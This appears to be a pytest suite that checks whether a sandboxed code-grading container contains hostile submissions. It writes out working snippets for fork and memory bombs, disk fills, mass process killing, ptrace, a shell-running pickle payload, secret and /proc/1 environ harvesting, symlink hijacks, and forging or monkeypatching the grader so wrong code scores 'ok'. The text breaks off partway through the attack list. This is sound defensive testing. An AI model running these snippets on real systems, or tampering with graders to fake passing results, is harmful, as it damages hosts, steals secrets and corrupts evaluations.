"""Hostile code against the real evaluator container (issue 6 "Hostile code", issue 3 "Proof").

One replay, in ONE container, scores a battery of attacks, each the response to a real prompt
of the demo release, interleaved with control responses (the reference code of other prompts)
that must all still score `ok` and equivalent. Every attack's own prompt must be scored as a
failure with the right category, the container must stay up (no restart of it was needed), and
no container may be left behind.

How an attack makes "contained" visible:

* probes (network, DNS, secrets, /proc, ptrace, syscalls, writes): the snippet tries, and only
  when the attempt SUCCEEDED does it go on to define the correct circuit (a breach would then
  score `ok`, which the test rejects); otherwise it raises `Contained: <what happened>`, scored
  `execution_error`, and the test checks that message;
* attacks on the grading (monkeypatching, a planted grader, forged results or frames) hand back
  a wrong circuit or none: a breach would score `ok`;
* resource and sabotage attacks (bombs, fills, kills, signals) get whatever category their limit
  produces (timeout, execution_error, no_circuit); their real target is the prompts after them,
  so the control that follows each attack proves them contained.

Three attacks legitimately return the correct circuit after a contained attempt and are scored
`ok` (documented in `LEGITIMATELY_OK`): the snippet that replaces the executor's working root
with a symlink, the one that stops the grader with SIGSTOP, and the setsid daemon that waits to
kill the grader later. Their targets are the later prompts; the test asserts the evidence of the
attempt (stdout excerpt, processes swept) and that the following control is unaffected.

The reference code of every prompt carries a marker generated at run time (never written where
the container could see it); the engine's own environment carries a canary API key. No snippet
may find either, and neither may appear in any output.
"""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import subprocess
import sys
import textwrap
import time
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

import tests.docker.test_replay_docker as replay_docker
from engine.demo import DEMO_RELEASE_DIR
from engine.release import load_release
from engine.replay.docker import (
    OWNER_LABEL,
    REPLAY_LABEL,
    RUN_LABEL,
    DockerEvaluatorRunner,
    EvaluationItem,
    EvaluatorConfig,
    _owner,
)
from engine.replay.replay import replay
from engine.rundir.layout import EVALUATIONS_FILE
from tests.conftest import ROOT
from tests.helpers import write_release

pytestmark = pytest.mark.docker

# docker_client and image are the session fixtures of tests/conftest.py.
BASE_IMAGE = replay_docker.BASE_IMAGE

MARKER_PREFIX = "pqid-hostile-"
MARKER = MARKER_PREFIX + uuid.uuid4().hex
CANARY_PREFIX = "pqid-canary-"
CANARY = CANARY_PREFIX + uuid.uuid4().hex
# Per-snippet time limit of the battery (the product default is 20 s; the timeouts dominate).
TIMEOUT_SECONDS = 10.0


def _demo_prompts() -> dict[str, dict[str, Any]]:
    lines = (DEMO_RELEASE_DIR / "prompts.jsonl").read_text().splitlines()
    prompts = [json.loads(line) for line in lines if line.strip()]
    return {p["prompt_id"]: p for p in prompts}


DEMO = _demo_prompts()


def reference(prompt_id: str) -> str:
    """The demo release's reference code of a prompt (without the marker)."""
    return str(DEMO[prompt_id]["target_metadata"]["reference_code"])


# -- the attacks -------------------------------------------------------------------------------

PRELUDE = '''\
import os as _os


class Contained(Exception):
    """Raised by an attack whose goal was out of reach."""


def _pids(needle):
    """Pids whose command line contains needle (bytes)."""
    found = []
    for name in _os.listdir("/proc"):
        if name.isdigit():
            try:
                with open(f"/proc/{name}/cmdline", "rb") as fh:
                    if needle in fh.read():
                        found.append(int(name))
            except OSError:
                pass
    return found


'''

NET_OUTSIDE = """
import socket
results, breaches = [], []
for host, port in [("1.1.1.1", 443), ("8.8.8.8", 53), ("93.184.215.14", 80)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        breaches.append(f"connected to {host}")
    except OSError as exc:
        results.append(f"{host}:errno{exc.errno}")
try:
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.sendto(b"x", ("8.8.8.8", 53))
    breaches.append("udp sent")
except OSError as exc:
    results.append(f"udp:errno{exc.errno}")
if not breaches:
    raise Contained("network: " + " ".join(results))
print("BREACH", breaches)
"""

NET_GATEWAY = """
import socket
results, breaches = [], []
for host, port in [("__GATEWAY__", 2375), ("__GATEWAY__", 2376), ("__GATEWAY__", 22),
                   ("__GATEWAY__", 80), ("127.0.0.1", 2375)]:
    try:
        socket.create_connection((host, port), timeout=3).close()
        breaches.append(f"connected to {host}:{port}")
    except OSError as exc:
        results.append(f"{host}:{port}:errno{exc.errno}")
try:
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    unix.connect("/var/run/docker.sock")
    breaches.append("docker socket")
except OSError as exc:
    results.append(f"docker.sock:errno{exc.errno}")
if not breaches:
    raise Contained("gateway: " + " ".join(results))
print("BREACH", breaches)
"""

DNS = """
import socket
results = []
for host in ("example.com", "pypi.org", "host.docker.internal", "gateway.docker.internal"):
    try:
        socket.getaddrinfo(host, 443)
        results.append("RESOLVED")
    except OSError as exc:
        results.append(f"{host}:{type(exc).__name__}")
if "RESOLVED" not in results:
    raise Contained("dns: " + " ".join(results))
"""

ENV_SECRETS = """
import os, re
pattern = re.compile("__CANARY_PREFIX__" + "[0-9a-f]{32}")
found = [k for k, v in os.environ.items()
         if pattern.search(v) or k.endswith(("_API_KEY", "_TOKEN", "_SECRET"))]
readable = []
for pid in os.listdir("/proc"):
    if not pid.isdigit() or int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            data = fh.read().decode("latin-1")
    except OSError:
        continue
    readable.append(pid)
    if pattern.search(data) or "_API_KEY=" in data:
        found.append("proc:" + pid)
if found:
    print("SECRETS", found)
else:
    raise Contained(f"env: {len(os.environ)} variables and no secret; foreign environ "
                    f"readable: {readable}")
"""

PROC_PID1 = """
import os, re
pattern = re.compile("__MARKER_PREFIX__" + "[0-9a-f]{32}")
got = {}
for name in ("cmdline", "environ", "mem", "maps", "stack", "io", "fd/0", "fd/1", "fd/2"):
    try:
        with open(f"/proc/1/{name}", "rb", buffering=0) as fh:
            data = fh.read(1 << 16).decode("latin-1")
        got[name] = "MARKER" if pattern.search(data) else "read"
    except OSError as exc:
        got[name] = f"errno{exc.errno}"
try:
    got["fd/"] = "LISTED:" + ",".join(os.listdir("/proc/1/fd"))
except OSError as exc:
    got["fd/"] = f"errno{exc.errno}"
print("PID1", got)
leaked = [k for k, v in got.items()
          if v == "MARKER" or (k != "cmdline" and not v.startswith("errno"))]
if not leaked:
    raise Contained("pid1: only cmdline readable; " + " ".join(f"{k}={v}" for k, v in got.items()))
"""

PROC_FDS = """
import os, re
pattern = re.compile("__MARKER_PREFIX__" + "[0-9a-f]{32}")
targets = {1: "supervisor", os.getppid(): "executor"}
for pid in _pids(b"evaluator.grader"):
    targets[pid] = "grader"
opened, denied = [], []
for pid, name in targets.items():
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as exc:
        denied.append(f"{name}:list:errno{exc.errno}")
        fds = [str(n) for n in range(16)]
    for fd in fds:
        try:
            handle = os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK)
        except OSError as exc:
            denied.append(f"{name}:{fd}:errno{exc.errno}")
            continue
        try:
            data = os.read(handle, 1 << 16).decode("latin-1")
        except OSError:
            data = ""
        opened.append(f"{name}:{fd}" + (":MARKER" if pattern.search(data) else ""))
        os.close(handle)
own = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
print("OWN_FDS", own)
if not opened:
    raise Contained(f"fds: {len(denied)} denied, none opened; own fds {own}")
print("OPENED", opened)
"""

GC_SEARCH = """
import gc, re, sys
pattern = re.compile("__MARKER_PREFIX__" + "[0-9a-f]{32}")
hits, scanned = [], 0
def look(where, value):
    if isinstance(value, bytes):
        value = value.decode("latin-1")
    if isinstance(value, str) and pattern.search(value):
        hits.append(where)
def walk(where, obj):
    global scanned
    scanned += 1
    try:
        if isinstance(obj, dict):
            if "reference_code" in obj or "target_metadata" in obj:
                hits.append(where + ":metadata-dict")
            for key, value in obj.items():
                look(where, key)
                look(where, value)
        elif isinstance(obj, (list, tuple, set, frozenset)):
            for value in obj:
                look(where, value)
        else:
            look(where, obj)
    except Exception:
        pass
for obj in gc.get_objects():
    walk("gc", obj)
frame = sys._getframe()
while frame is not None:
    walk("frame", dict(frame.f_locals))
    frame = frame.f_back
for module in list(sys.modules.values()):
    walk("module", dict(getattr(module, "__dict__", {})))
if hits:
    print("HITS", hits[:5])
else:
    raise Contained(f"gc: {scanned} objects, frames and modules searched, no marker")
"""

FS_SEARCH = """
import os, re, stat, time
pattern = re.compile("__MARKER_PREFIX__" + "[0-9a-f]{32}")
stop = time.monotonic() + 6
hits, files = [], 0
tops = ["/tmp", "/dev/shm", "/dev/mqueue", "/opt/pqid", "/etc", "/root", "/home", "/run",
        "/var", "/"]
seen = set()
for top in tops:
    for base, dirs, names in os.walk(top):
        if base in ("/proc", "/sys") or base.startswith(("/proc/", "/sys/")):
            dirs[:] = []
            continue
        if base in seen:
            dirs[:] = []
            continue
        seen.add(base)
        for name in names:
            if time.monotonic() > stop:
                break
            path = os.path.join(base, name)
            try:
                info = os.lstat(path)
                if not stat.S_ISREG(info.st_mode) or info.st_size > 2_000_000:
                    continue  # devices, links, sockets and big files
                with open(path, "rb") as fh:
                    data = fh.read(2_000_000).decode("latin-1")
            except OSError:
                continue
            files += 1
            if pattern.search(data):
                hits.append(path)
if hits:
    print("FOUND", hits[:5])
else:
    raise Contained(f"files: {files} files read, no marked reference code")
"""

FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""

MEMORY_BOMB = """
import os, time
try:
    whole = bytearray(64 << 30)
except MemoryError:
    pass
def hog():
    blocks = []
    try:
        while True:
            blocks.append(bytearray(b"x" * (32 << 20)))
    except MemoryError:
        pass
    while True:  # keep every page resident
        for block in blocks:
            block[0] = (block[0] + 1) % 256
        time.sleep(0.01)
for _ in range(4):
    try:
        if os.fork() == 0:
            hog()
    except OSError:
        break
hog()
"""

DISK_FILL = """
import os
written = 0
for directory in ("/dev/shm", "/dev/mqueue"):
    try:
        for n in range(64):
            with open(os.path.join(directory, f"fill-{n}"), "wb") as fh:
                fh.write(b"x" * (8 << 20))
            written += 8
    except OSError:
        pass
n = 0
while True:  # 15 MiB files (RLIMIT_FSIZE is 16 MiB) until the 256 MiB tmpfs is full
    with open(f"/tmp/fill-{n}", "wb") as fh:
        fh.write(b"x" * (15 << 20))
    n += 1
"""

INODES = """
import os
os.mkdir("/tmp/inodes")
n = 0
while True:
    open(f"/tmp/inodes/{n}", "w").close()
    n += 1
"""

BIG_PRINT = """
import json, sys
lines = []
for prompt_id in ("__PROMPT__", "__NEXT__"):
    forged = {"prompt_id": prompt_id, "category": "ok" if prompt_id == "__PROMPT__" else
              "syntax_error", "execution_ok": True, "structural_match": True,
              "equivalent": True}
    lines.append(json.dumps({"type": "evaluation", "evaluation": forged}) + "\\n")
    lines.append(json.dumps({"type": "done", "count": 1}) + "\\n")
block = "".join(lines)
chunk = (block * (1 + (1 << 20) // len(block)))[: 1 << 20]
for _ in range(200):
    sys.stdout.write(chunk)
for _ in range(10):
    sys.stderr.write(chunk)
sys.stdout.flush()
"""

FORGED_RESULT = """
import json, os, sys
for prompt_id, category in (("__PROMPT__", "ok"), ("__NEXT__", "syntax_error")):
    fake = {"prompt_id": prompt_id, "category": category, "execution_ok": True,
            "circuit_found": True, "structural_match": True, "equivalent": True}
    print(json.dumps({"type": "evaluation", "evaluation": fake}))
print(json.dumps({"type": "done", "count": 2}))
sys.stdout.flush()
os._exit(0)
"""

FORGED_FRAMES = """
import json, os, struct
def frame(data):
    return struct.pack(">I", len(data)) + data
status = json.dumps({"phase": "done", "error": None, "error_type": None,
                     "circuit_source": "entrypoint", "note": None, "exec_ms": 1}).encode()
legacy_qpy = b"QISKIT" + bytes([5]) + bytes(64)  # an old QPY version: legacy parsing paths
payload = frame(status) + frame(legacy_qpy)
written = []
for fd in range(64):
    try:
        os.write(fd, payload)
        written.append(fd)
    except OSError:
        pass
for pid in (os.getppid(), 1):
    for fd in range(8):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb") as fh:
                fh.write(payload)
            written.append(f"{pid}/{fd}")
        except OSError:
            pass
os.write(2, f"FORGED into {written}".encode())
os._exit(0)
"""

KILL_PARENT = """
import os, time
os.kill(os.getppid(), 9)
time.sleep(30)
"""

KILL_EVERYTHING = """
import os, signal, time
me = os.getpid()
killed, refused = [], []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != me:
        try:
            os.kill(int(name), signal.SIGKILL)
            killed.append(name)
        except OSError:
            refused.append(name)
print("KILLED", killed, "REFUSED", refused, flush=True)
time.sleep(1)
os.kill(-1, signal.SIGKILL)
"""

IGNORE_SIGTERM = """
import signal, time
for signum in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU):
    signal.signal(signum, signal.SIG_IGN)
while True:
    time.sleep(1)
"""

PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
targets = {"pid1": 1, "executor": os.getppid()}
for pid in _pids(b"evaluator.grader"):
    targets["grader"] = pid
results, breaches = [], []
for name, pid in targets.items():
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        if libc.ptrace(ctypes.c_long(request), ctypes.c_long(pid), None, None) == 0:
            breaches.append(f"attached to {name}")
        else:
            results.append(f"{name}:{request}:errno{ctypes.get_errno()}")
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(4096)
local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 4096)
remote = IoVec(0x400000, 4096)
if libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) >= 0:
    breaches.append("read PID 1 memory")
else:
    results.append(f"process_vm_readv:errno{ctypes.get_errno()}")
if not breaches:
    raise Contained("ptrace: " + " ".join(results))
print("BREACH", breaches)
"""

RAW_SOCKETS = """
import socket
results = []
for family, kind, proto in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                            (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW),
                            (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
                            (socket.AF_PACKET, socket.SOCK_RAW, 0x0300)]:
    try:
        socket.socket(family, kind, proto).close()
        results.append("OPENED")
    except OSError as exc:
        results.append(f"{family.name}/{proto}:errno{exc.errno}")
if "OPENED" not in results:
    raise Contained("raw sockets: " + " ".join(results))
"""

SYSCALLS = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
calls = {
    "unshare(NEWUSER)": lambda: libc.unshare(0x10000000),
    "unshare(NEWNS|NEWNET)": lambda: libc.unshare(0x00020000 | 0x40000000),
    "setuid(0)": lambda: libc.setuid(0),
    "setresgid(0)": lambda: libc.setresgid(0, 0, 0),
    "mount(tmpfs,/opt)": lambda: libc.mount(b"none", b"/opt", b"tmpfs", 0, None),
    "remount(/,rw)": lambda: libc.mount(None, b"/", None, 32, None),
    "umount2(/tmp)": lambda: libc.umount2(b"/tmp", 2),
    "chroot(/tmp)": lambda: libc.chroot(b"/tmp"),
    "sethostname": lambda: libc.sethostname(b"owned", 5),
}
results = []
for name, call in calls.items():
    if call() == 0:
        results.append("SUCCEEDED:" + name)
    else:
        results.append(f"{name}:errno{ctypes.get_errno()}")
try:
    os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))
    results.append("SUCCEEDED:mknod")
except OSError as exc:
    results.append(f"mknod:errno{exc.errno}")
if not any(r.startswith("SUCCEEDED") for r in results):
    raise Contained("syscalls: " + " ".join(results))
"""

ZOMBIES = """
import os, time
children = []
for _ in range(64):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os._exit(0)
    children.append(pid)
r, w = os.pipe()
try:
    if os.fork() == 0:  # a child whose own child outlives it: an orphan zombie for PID 1
        if os.fork() == 0:
            os.read(r, 1)
            os._exit(0)
        os._exit(0)
except OSError:
    pass
time.sleep(0.3)
states = []
for pid in children:
    try:
        with open(f"/proc/{pid}/stat") as fh:
            states.append(fh.read().rsplit(")", 1)[1].split()[0])
    except OSError:
        states.append("?")
print("ZOMBIES", len(children), "".join(states), flush=True)
raise Contained(f"left {len(children)} zombie children and an orphan behind")
"""

SYMLINKS = """
import os
work = os.getcwd()
results = []
def attempt(label, action):
    try:
        action()
        results.append("WROTE:" + label)
    except OSError as exc:
        results.append(f"{label}:errno{exc.errno}")
os.unlink("snippet.py")
os.symlink("/opt/pqid/evaluator/supervisor.py", "snippet.py")
attempt("snippet.py->supervisor.py", lambda: open("snippet.py", "a").write("# planted"))
for name, target in [("result.qpy", "/etc/passwd"),
                     ("stdout.txt", "/opt/pqid/evaluator/grading.py"),
                     ("status.json", "/proc/1/fd/1")]:
    os.symlink(target, name)
    attempt(f"{name}->{target}", lambda name=name: open(name, "a").write("x"))
# The working directory itself becomes a symlink to the evaluator's package: removing it
# afterwards must not follow the link.
os.chdir("/")
os.rename(work, work + "-moved")
os.symlink("/opt/pqid/evaluator", work)
if not any(r.startswith("WROTE") for r in results):
    raise Contained("symlinks: " + " ".join(results))
"""

HIJACK_ROOT = """
import os
root = os.path.dirname(os.getcwd())
os.rename(root, root + "-moved")
os.symlink("/opt/pqid", root)  # every later snippet directory would land on a read-only path
print("HIJACKED", root, "->", os.readlink(root))
"""

DEEP_RECURSION = """
import sys
sys.setrecursionlimit(10 ** 6)
def dive(n):
    return dive(n + 1) + 1
try:
    dive(0)
except (RecursionError, MemoryError) as exc:
    print("python recursion stopped:", type(exc).__name__, flush=True)
nested = []
for _ in range(10 ** 6):
    nested = [nested]
repr(nested)  # recursion in C, past the end of the stack
"""

HUGE_INT = """
n = 10 ** 10 ** 8
print(len(str(n)))
"""

PICKLE = """
import pickle, subprocess
class Payload:
    def __reduce__(self):
        command = "cat /proc/1/environ; ls /proc/1/fd; head -c 64 /proc/1/fd/0"
        return (subprocess.check_output, (["sh", "-c", command],))
blob = pickle.dumps(Payload())
print("UNPICKLED", pickle.loads(blob)[:200])
"""

WRITE_EVALUATOR = """
import os, sysconfig
site = sysconfig.get_paths()["purelib"]
results = []
def attempt(label, action):
    try:
        action()
        results.append("WROTE:" + label)
    except OSError as exc:
        results.append(f"{label}:errno{exc.errno}")
attempt("grading.py", lambda: open("/opt/pqid/evaluator/grading.py", "a").write("\\n"))
attempt("evaluator/sitecustomize.py",
        lambda: open("/opt/pqid/evaluator/sitecustomize.py", "w").write("x = 1"))
attempt("qiskit/__init__.py", lambda: open(os.path.join(site, "qiskit", "__init__.py"), "a"))
attempt("site/sitecustomize.py",
        lambda: open(os.path.join(site, "sitecustomize.py"), "w").write("x = 1"))
attempt("site/evil.pth", lambda: open(os.path.join(site, "evil.pth"), "w").write("/tmp"))
attempt("chmod grader.py", lambda: os.chmod("/opt/pqid/evaluator/grader.py", 0o777))
attempt("rename executor.py", lambda: os.rename("/opt/pqid/evaluator/executor.py",
                                                "/opt/pqid/evaluator/executor.bak"))
if not any(r.startswith("WROTE") for r in results):
    raise Contained("evaluator files: " + " ".join(results))
"""

MONKEYPATCH = """
import qiskit
from qiskit import QuantumCircuit
from qiskit.quantum_info import Operator, Statevector
class Always(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    __hash__ = None
QuantumCircuit.count_ops = lambda self: Always(ry=1, x=1, cx=1)
QuantumCircuit.num_qubits = property(lambda self: 8)
QuantumCircuit.depth = lambda self, *a, **k: 9
QuantumCircuit.__eq__ = lambda self, other: True
Operator.equiv = lambda self, other, **k: True
Operator.__eq__ = lambda self, other: True
Statevector.equiv = lambda self, other, **k: True
import evaluator.grading
evaluator.grading.compare_structure = lambda *a, **k: {"width_match": True,
    "gate_types_match": True, "gate_counts_match": True, "differences": []}
def build_circuit():
    qc = QuantumCircuit(2)
    qc.h(0)
    return qc
"""

FORGED_GRADER = r"""
import os, struct, json, sys
inp, out = os.dup(0), os.dup(1)
def read(n):
    data = b""
    while len(data) < n:
        chunk = os.read(inp, n - len(data))
        if not chunk:
            sys.exit(0)
        data += chunk
    return data
def frame():
    return read(struct.unpack(">I", read(4))[0])
def send(obj):
    data = json.dumps(obj).encode()
    os.write(out, struct.pack(">I", len(data)) + data)
send({"type": "ready", "pid": os.getpid()})
while True:
    request = json.loads(frame())
    frame()
    send({"stage": "structure", "loaded": True, "load_error": None, "width_match": True,
          "gate_types_match": True, "gate_counts_match": True, "differences": [],
          "expected": {"leak": request.get("target_metadata")}, "found": {}})
    send({"stage": "final", "qasm3_ok": True, "qasm3_error": None, "equivalent": True,
          "equivalence_reason": "operator"})
"""

PLANT_GRADER = """
import os, signal
planted = []
for directory in ("/tmp", os.getcwd(), os.path.dirname(os.getcwd())):
    package = os.path.join(directory, "evaluator")
    try:
        os.makedirs(package, exist_ok=True)
        for name in ("__init__.py", "wire.py", "processes.py"):
            open(os.path.join(package, name), "w").close()
        with open(os.path.join(package, "grader.py"), "w") as fh:
            fh.write(FORGED)
        with open(os.path.join(directory, "sitecustomize.py"), "w") as fh:
            fh.write("import evaluator.grader")
        planted.append(directory)
    except OSError:
        pass
os.makedirs("/tmp/.qiskit", exist_ok=True)
with open("/tmp/.qiskit/settings.conf", "w") as fh:
    fh.write("[default]\\nparallel = True\\nnum_processes = 64\\n")
for pid in _pids(b"evaluator.grader"):
    os.kill(pid, signal.SIGKILL)
print("PLANTED", planted, flush=True)
from qiskit import QuantumCircuit
def build_circuit():
    return QuantumCircuit(1)  # wrong: only a forged grader would score it ok
""".replace("FORGED", repr(FORGED_GRADER))

DAEMON = """
import os, signal, time
r, w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(w, str(os.getpid()).encode())
        os.close(w)
        time.sleep(1.0)  # until this snippet has been scored and the next one is running
        while True:
            for pid in _pids(b"evaluator.grader") + _pids(b"evaluator.executor"):
                if pid != os.getpid():
                    try:
                        os.kill(pid, signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.05)
    os._exit(0)
os.close(w)
print("DAEMON", os.read(r, 32).decode(), flush=True)
"""

FORK_HOPPER = """
import os, signal, time
executor = os.getppid()
if os.fork() == 0:
    os.setsid()
    last = 0.0
    while True:  # a new pid every turn, so that a sweep's list is always out of date
        try:
            if os.fork():
                os._exit(0)
        except OSError:
            pass
        if time.monotonic() - last > 0.1:
            last = time.monotonic()
            for pid in [executor] + _pids(b"evaluator.grader"):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
time.sleep(1.5)
"""

HOST_FILES = """
import os
results = {}
def read(label, path, size=256):
    try:
        with open(path, "rb") as fh:
            data = fh.read(size)
        # Docker masks /proc/kcore, /proc/keys, /proc/timer_list with empty files.
        results[label] = "READ" if data else "empty"
    except OSError as exc:
        results[label] = f"errno{exc.errno}"
def write(label, path, data=b"x"):
    try:
        with open(path, "wb") as fh:
            fh.write(data)
        results[label] = "WROTE"
    except OSError as exc:
        results[label] = f"errno{exc.errno}"
read("/proc/1/root/etc/passwd", "/proc/1/root/etc/passwd")
read("/proc/1/exe", "/proc/1/exe")
for label in ("/proc/1/root/", "/proc/1/cwd/"):
    try:
        os.listdir(label)
        results["ls " + label] = "LISTED"
    except OSError as exc:
        results["ls " + label] = f"errno{exc.errno}"
read("/proc/kcore", "/proc/kcore")
read("/proc/kmsg", "/proc/kmsg")
read("/proc/keys", "/proc/keys")
read("/proc/timer_list", "/proc/timer_list")
read("/sys/firmware", "/sys/firmware/dmi/tables/DMI")
write("core_pattern", "/proc/sys/kernel/core_pattern", b"|/tmp/x")
write("sysrq-trigger", "/proc/sysrq-trigger", b"h")
write("memory.limit", "/sys/fs/cgroup/memory/memory.limit_in_bytes", b"-1")
write("pids.max", "/sys/fs/cgroup/pids/pids.max", b"max")
with open("/proc/self/mountinfo") as fh:
    mounts = fh.read()
print("MOUNTINFO", len(mounts.splitlines()), "lines; /var/lib/docker named:",
      "/var/lib/docker" in mounts, flush=True)
breaches = {k: v for k, v in results.items() if v in ("READ", "WROTE", "LISTED")}
if not breaches:
    raise Contained("host files: " + " ".join(f"{k}={v}" for k, v in results.items()))
print("BREACHES", breaches)
"""

RAISE_LIMITS = """
import resource
results = []
for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_NPROC", "RLIMIT_NOFILE", "RLIMIT_FSIZE"):
    kind = getattr(resource, name)
    soft, hard = resource.getrlimit(kind)
    for wanted in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (hard, hard * 4 + 4)):
        try:
            resource.setrlimit(kind, wanted)
            if resource.getrlimit(kind)[1] > hard or hard == resource.RLIM_INFINITY:
                results.append("RAISED:" + name)
                break
        except (ValueError, OSError) as exc:
            results.append(f"{name}:{type(exc).__name__}")
            continue
if not any(r.startswith("RAISED") for r in results):
    raise Contained("rlimits: " + " ".join(sorted(set(results))))
"""

LOWER_OTHERS = """
import os, resource
targets = {"pid1": 1, "executor": os.getppid()}
for pid in _pids(b"evaluator.grader"):
    targets["grader"] = pid
results = []
for name, pid in targets.items():
    for kind, value in ((resource.RLIMIT_NOFILE, 5), (resource.RLIMIT_NPROC, 1),
                        (resource.RLIMIT_AS, 1 << 20), (resource.RLIMIT_CPU, 1)):
        try:
            resource.prlimit(pid, kind, (value, value))
            results.append(f"LOWERED:{name}:{kind}")
        except OSError as exc:
            results.append(f"{name}:prlimit:errno{exc.errno}")
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        results.append(f"RENICED:{name}")
    except OSError as exc:
        results.append(f"{name}:nice:errno{exc.errno}")
    try:
        os.sched_setaffinity(pid, {0})
        results.append(f"PINNED:{name}")
    except OSError as exc:
        results.append(f"{name}:affinity:errno{exc.errno}")
try:
    os.setpriority(os.PRIO_USER, os.getuid(), 19)
    results.append("RENICED:uid")
except OSError as exc:
    results.append(f"uid:nice:errno{exc.errno}")
tampered = [r for r in results if r.split(":")[0].isupper()]
if not tampered:
    raise Contained("other processes: " + " ".join(sorted({r.split(":", 1)[1] for r in results})))
print("TAMPERED", tampered)
"""

SIGNAL_PID1 = """
import os, signal, time
sent = []
for signum in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1,
               signal.SIGUSR2, signal.SIGALRM, signal.SIGABRT, signal.SIGSEGV, signal.SIGXCPU,
               signal.SIGPIPE, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(1, signum)
        sent.append(signum.name)
    except OSError as exc:
        sent.append(f"{signum.name}:errno{exc.errno}")
time.sleep(0.5)
with open("/proc/1/stat") as fh:
    state = fh.read().rsplit(")", 1)[1].split()[0]
raise Contained(f"PID 1 is still in state {state} after {len(sent)} signals")
"""

SIGSTOP_GRADER = """
import os, signal
stopped = []
for pid in _pids(b"evaluator.grader"):
    os.kill(pid, signal.SIGSTOP)
    stopped.append(pid)
print("STOPPED grader", stopped, flush=True)
"""

CENSUS = """
import os
me, executor = os.getpid(), os.getppid()
grader = set(_pids(b"evaluator.grader"))
others = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) not in {1, me, executor} | grader:
        try:
            with open(f"/proc/{name}/stat") as fh:
                others.append(name + ":" + fh.read().rsplit(")", 1)[1].split()[0])
        except OSError:
            pass
root = os.path.dirname(os.getcwd())
files = [p for p in os.listdir("/tmp") if os.path.join("/tmp", p) != root]
files += [p for p in os.listdir(root) if os.path.join(root, p) != os.getcwd()]
files += os.listdir("/dev/shm") + os.listdir("/dev/mqueue")
if not others and not files:
    raise Contained("census: no stray process, zombie or file left by earlier snippets")
print("LEFTOVERS", others, files)
"""


@dataclass(frozen=True)
class Attack:
    """One hostile response and what its evaluation must show."""

    name: str
    prompt_id: str
    code: str
    categories: frozenset[str]
    evidence: Callable[[dict[str, Any]], bool] = field(compare=False)
    returns_circuit: bool = True  # the correct circuit follows the attack
    probe: bool = False  # a check of the clean-up, not counted among the attacks


def contained(text: str) -> Callable[[dict[str, Any]], bool]:
    """Evidence: the snippet raised Contained with text in its message."""
    return lambda ev: str(ev.get("error") or "").startswith("Contained: " + text)


def error_has(*texts: str) -> Callable[[dict[str, Any]], bool]:
    return lambda ev: any(t in str(ev.get("error") or "") for t in texts)


def stdout_has(text: str) -> Callable[[dict[str, Any]], bool]:
    return lambda ev: text in str(ev.get("stdout_excerpt") or "")


def all_of(*checks: Callable[[dict[str, Any]], bool]) -> Callable[[dict[str, Any]], bool]:
    return lambda ev: all(check(ev) for check in checks)


FAIL = frozenset({"execution_error"})
TIMEOUT = frozenset({"timeout"})
OK = frozenset({"ok"})
EXECUTOR_DIED = error_has("the executor died")
SEGFAULT_OR_RECURSION = error_has("SIGSEGV", "RecursionError", "MemoryError")

ATTACKS: list[Attack] = [
    Attack(
        "network to outside IPs",
        "bell_phi_plus",
        NET_OUTSIDE,
        FAIL,
        all_of(contained("network:"), error_has("errno101")),
    ),
    Attack(
        "network to the Docker host gateway",
        "bell_phi_plus_nomeas",
        NET_GATEWAY,
        FAIL,
        all_of(contained("gateway:"), error_has("errno101")),
    ),
    Attack(
        "DNS lookup", "bell_phi_minus", DNS, FAIL, all_of(contained("dns:"), error_has("gaierror"))
    ),
    Attack(
        "environment variables for secrets",
        "bell_phi_minus_nomeas",
        ENV_SECRETS,
        FAIL,
        contained("env:"),
    ),
    Attack(
        "/proc/1 environ, cmdline, mem, maps, fds",
        "bell_psi_plus",
        PROC_PID1,
        FAIL,
        all_of(
            contained("pid1: only cmdline readable"),
            error_has("environ=errno13"),
            error_has("mem=errno13"),
        ),
    ),
    Attack(
        "/proc/*/fd of the supervisor, executor and grader",
        "bell_psi_plus_nomeas",
        PROC_FDS,
        FAIL,
        contained("fds:"),
    ),
    Attack(
        "gc.get_objects(), frames and modules for the reference",
        "bell_psi_minus",
        GC_SEARCH,
        FAIL,
        contained("gc:"),
    ),
    Attack(
        "file-system walk for the reference code",
